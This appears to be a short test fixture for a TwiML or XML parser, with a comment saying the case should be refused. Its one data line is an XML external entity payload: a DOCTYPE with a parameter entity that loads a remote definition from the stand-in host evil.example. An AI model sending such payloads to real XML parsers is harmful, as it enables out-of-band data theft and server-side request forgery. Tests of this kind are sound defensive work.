# class: parameter entity; expected: refused twiml
response = '<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x"> %e;]><Response/>'
